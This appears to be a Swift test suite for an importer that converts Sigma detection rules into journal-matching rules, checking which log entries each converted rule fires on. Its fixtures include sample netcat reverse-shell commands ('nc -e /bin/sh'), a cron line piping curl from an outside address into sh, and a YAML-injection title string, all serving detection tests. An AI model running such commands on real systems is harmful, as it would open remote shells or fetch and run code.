import CanhModel
import Engine
import Foundation
import Rules
import SigmaImport
import TestSupport
import Testing

/// Sigma rules written for these tests (`Fixtures/`), converted and then judged by the engine
/// through embedded tests appended to each converted rule: what the Sigma rule means must be
/// what the Canh rule matches.
@Suite struct SigmaImportTests {
    static let fixtures = ProcessRunner.repositoryRoot + "/Tests/SigmaImportTests/Fixtures"

    private func convert(_ name: String) throws -> SigmaImporter.Converted {
        try SigmaImporter.convert(try String(contentsOfFile: "\(Self.fixtures)/\(name)", encoding: .utf8))
    }

    /// A pack of the repository's catalogue and `files` (name → text); the results of its tests.
    private func runTests(_ files: [String: String]) throws -> (results: [RuleTestResult], problems: [String]) {
        let pack = try TemporaryDirectory()
        for name in ["pack.yaml", "requirements.yaml", RulePack.legalSourcesFile] {
            try pack.write(try String(contentsOfFile: ProcessRunner.repositoryRoot + "/rules/" + name, encoding: .utf8), to: name)
        }
        for (name, text) in files { try pack.write(text, to: "sigma/" + name) }
        let (loaded, problems) = RulePack.load(directory: pack.path)
        return (RuleTestRunner.run(loaded), (problems + JournalEngine.problems(in: loaded)).map(\.description))
    }

    @Test("keywords with a negated filter: each keyword fires, the filter and look-alikes do not; metadata is kept")
    func keywordsAndFilter() throws {
        let converted = try convert("importable/ssh_password_refused.yml")
        #expect(converted.id == "sigma.sshd.ssh_password_refused_outside_the_admin_network")
        let (rules, problems) = RulePack.rules(inFile: converted.yaml, named: "x.yaml")
        #expect(problems.isEmpty, "\(problems)")
        let rule = try #require(rules.first)
        #expect(rule.requirements.isEmpty)
        #expect(
            rule.sigma
                == SigmaOrigin(
                    id: "7c1d9a52-3f0e-4b8e-9d61-2a4c5e6f7a01", title: "SSH Password Refused Outside The Admin Network",
                    author: "Canh tests",
                    license: "MIT", references: ["https://man.openbsd.org/sshd_config"]))
        #expect(rule.severity == .medium)
        let tests = """
                tests:
                  - name: both keywords, in any case, from outside
                    fields: {SYSLOG_IDENTIFIER: sshd, _COMM: sshd}
                    entries:
                      - {MESSAGE: "Failed password for root from 203.0.113.5 port 1 ssh2"}
                      - {MESSAGE: "error: pam: authentication FAILURE for root from 203.0.113.5"}
                    expect: [{entity: test-host}, {entity: test-host}]
                  - name: the admin network, another program
                    entries:
                      - {SYSLOG_IDENTIFIER: sshd, _COMM: sshd, MESSAGE: "Failed password for hoa from 10.10.1.7 port 1 ssh2"}
                      - {SYSLOG_IDENTIFIER: sshd, _COMM: logger, MESSAGE: "Failed password for root from 203.0.113.5 port 1 ssh2"}
                    expect: []

            """
        let (results, packProblems) = try runTests(["ssh.yaml": converted.yaml + tests])
        #expect(packProblems == [])
        #expect(results.count == 2)
        #expect(results.filter { !$0.passed }.map(\.description) == [])
    }

    @Test("|all keywords, auditd fields with all of / 1 of selections, cidr and re become the same matches")
    func auditdAndModifiers() throws {
        let sudo =
            try convert("importable/sudo_shell_refused.yml").yaml + """
                    tests:
                      - name: both words
                        fields: {SYSLOG_IDENTIFIER: sudo, _COMM: sudo}
                        entries: [{MESSAGE: "intern : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/intern ; USER=root ; COMMAND=/bin/bash"}]
                        expect: [{entity: test-host}]
                      - name: one word only
                        fields: {SYSLOG_IDENTIFIER: sudo, _COMM: sudo}
                        entries: [{MESSAGE: "intern : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/intern ; USER=root ; COMMAND=/bin/cat"}]
                        expect: []

                """
        let audit: (String) -> String = { message in
            "{SYSLOG_IDENTIFIER: audit, _TRANSPORT: audit, _AUDIT_TYPE_NAME: \(message.split(separator: " ")[0]), MESSAGE: '\(message)'}"
        }
        let shell =
            try convert("importable/auditd_reverse_shell.yml").yaml + """
                    tests:
                      - name: nc and ncat with -e and a shell
                        entries:
                          - \(audit(#"EXECVE argc=3 a0="nc" a1="-e" a2="/bin/sh""#))
                          - \(audit(#"EXECVE argc=3 a0="/usr/bin/ncat" a1="-e" a2="/bin/bash""#))
                        expect: [{entity: test-host}, {entity: test-host}]
                      - name: no -e, no shell, the backup key, another record type, the same text from a program
                        entries:
                          - \(audit(#"EXECVE argc=3 a0="nc" a1="-l" a2="/bin/sh""#))
                          - \(audit(#"EXECVE argc=3 a0="nc" a1="-e" a2="/usr/bin/python3""#))
                          - \(audit(#"EXECVE argc=3 a0="nc" a1="-e" a2="/bin/sh" key="backup""#))
                          - \(audit(#"SYSCALL arch=c000003e syscall=59 a0="nc" a1="-e" a2="/bin/sh""#))
                          - {SYSLOG_IDENTIFIER: audit, _TRANSPORT: syslog, _AUDIT_TYPE_NAME: EXECVE, MESSAGE: 'EXECVE argc=3 a0="nc" a1="-e" a2="/bin/sh"'}
                        expect: []

                """
        let network =
            try convert("importable/auditd_connect_outside.yml").yaml + """
                    tests:
                      - name: inside 10.10.0.0/16
                        entries: [\(audit("SOCKADDR saddr=0200 laddr=10.10.200.4 lport=22"))]
                        expect: [{entity: test-host}]
                      - name: 10.100.x and 10.11.x are outside; a longer address is not this one
                        entries:
                          - \(audit("SOCKADDR laddr=10.100.0.4 lport=22"))
                          - \(audit("SOCKADDR laddr=10.11.0.4 lport=22"))
                          - \(audit("SOCKADDR laddr=10.10.0.4.5 lport=22"))
                        expect: []

                """
        let cron =
            try convert("importable/cron_regex.yml").yaml + """
                    tests:
                      - name: curl piped to sh
                        fields: {SYSLOG_IDENTIFIER: CRON}
                        entries: [{MESSAGE: "(root) CMD (curl -s http://203.0.113.9/x | sh)"}]
                        expect: [{entity: test-host}]
                      - name: curl to a file
                        fields: {SYSLOG_IDENTIFIER: CRON}
                        entries: [{MESSAGE: "(root) CMD (curl -s -o /tmp/x http://203.0.113.9/x)"}]
                        expect: []

                """
        let (results, problems) = try runTests(["sudo.yaml": sudo, "shell.yaml": shell, "network.yaml": network, "cron.yaml": cron])
        #expect(problems == [])
        #expect(results.count == 8)
        #expect(results.filter { !$0.passed }.map(\.description) == [])
    }

    @Test(
        "what the journal cannot express is refused with the reason",
        arguments: [
            ("refused/windows_process.yml", "log source product windows is not Linux"),
            ("refused/linux_process_creation.yml", "log source category process_creation needs a process"),
            ("refused/aggregation.yml", "the condition aggregates"),
            ("refused/base64_modifier.yml", "modifier base64offset (selection selection) has no journal equivalent"),
            ("refused/unknown_field.yml", "field pam_rhost has no journal equivalent"),
            ("refused/no_id.yml", "the rule has no id"),
            ("refused/complex_key.yml", "a mapping key is not a plain value"),
        ])
    func refusals(file: String, reason: String) throws {
        #expect {
            try convert(file)
        } throws: { error in
            "\(error)".hasPrefix(reason)
        }
    }

    @Test("Sigma text cannot change the rule file's structure; ids are dotted lower-case words")
    func hostileText() throws {
        let sigma = """
            title: "Evil' }\\n  - id: injected.rule\\nrequirements: [ND85-SRV-AUTH-01]"
            id: "x'y"
            author: "a\\u0000b"
            logsource: {product: linux, service: sshd}
            detection:
                keywords: ["it's"]
                condition: keywords
            """
        let converted = try SigmaImporter.convert(sigma)
        #expect(converted.id == "sigma.sshd.evil_id_injected_rule_requirements_nd85_srv_auth_01")
        let (rules, problems) = RulePack.rules(inFile: converted.yaml, named: "x.yaml")
        #expect(problems.isEmpty, "\(problems)")
        #expect(rules.map(\.id) == [converted.id])
        #expect(rules.first?.requirements == [])
        #expect(rules.first?.sigma?.title == "Evil' }   - id: injected.rule requirements: [ND85-SRV-AUTH-01]")
    }
}
